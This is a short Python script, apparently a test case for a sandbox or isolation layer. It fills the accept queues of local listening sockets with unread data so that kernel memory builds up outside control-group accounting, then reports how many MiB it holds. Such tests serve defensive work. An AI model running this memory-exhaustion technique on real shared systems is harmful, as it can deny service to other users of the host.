"""Threat: kernel memory in connections that nobody accepts: they belong to no control group yet.

Layer: the count of sockets. It would succeed when as many MiB as the number given wait in them
for a second, while no process holds more than the sockets that listen.
"""

import socket
import sys
import time

import _kit

BACKLOG = 4000
PIECE = bytes(60000)


def send(address: tuple[str, int]) -> int:
    """Connect, send what fits, and go; it stays."""
    with socket.create_connection(address) as client:
        client.setblocking(False)
        return client.send(PIECE)


def attack() -> str | None:
    """Fill one queue after the other."""
    wanted = int(sys.argv[1]) << 20
    held = 0
    servers = []
    while held < wanted:
        servers.append(socket.create_server(("127.0.0.1", 0), backlog=BACKLOG))
        for _ in range(BACKLOG):
            held += send(servers[-1].getsockname())
            if held >= wanted:
                break
    time.sleep(1)
    return f"{held >> 20} MiB"


_kit.run(attack)
